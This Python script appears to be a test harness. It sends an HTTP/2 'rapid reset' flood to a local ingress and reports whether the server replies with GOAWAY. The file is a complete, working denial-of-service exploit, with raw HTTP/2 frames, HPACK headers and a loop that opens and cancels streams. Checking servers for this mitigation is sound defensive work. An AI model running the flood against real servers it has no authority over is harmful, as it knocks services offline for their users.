#!/usr/bin/env python3
"""HTTP/2 "rapid reset" against the ingress (cleartext, prior knowledge): opens N streams
to a slow path and resets each at once. Prints "goaway CODE" when the server sent GOAWAY,
else "no goaway". usage: h2_rapid_reset.py PORT AUTHORITY PATH N"""
import socket
import struct
import sys

port, authority, path, n = int(sys.argv[1]), sys.argv[2], sys.argv[3], int(sys.argv[4])


def frame(ftype, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream) + payload


def literal(index, value):
    # HPACK literal without indexing, indexed name (4-bit prefix; the indexes used are < 15)
    v = value.encode()
    return bytes([index]) + bytes([len(v)]) + v


block = b"\x82\x86" + literal(4, path) + literal(1, authority)  # GET, http, :path, :authority
s = socket.create_connection(("127.0.0.1", port))
out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"")
for i in range(n):
    sid = 2 * i + 1
    out += frame(1, 0x5, sid, block)  # HEADERS, END_STREAM | END_HEADERS
    out += frame(3, 0, sid, struct.pack(">I", 8))  # RST_STREAM CANCEL
try:
    s.sendall(out)
except OSError:
    pass
s.settimeout(5)
buf = b""
try:
    while True:
        d = s.recv(65536)
        if not d:
            break
        buf += d
except OSError:
    pass
code = None
while len(buf) >= 9:
    length = int.from_bytes(buf[0:3], "big")
    if buf[3] == 7 and len(buf) >= 9 + 8:
        code = int.from_bytes(buf[13:17], "big")
    buf = buf[9 + length:]
print("goaway %d" % code if code is not None else "no goaway")
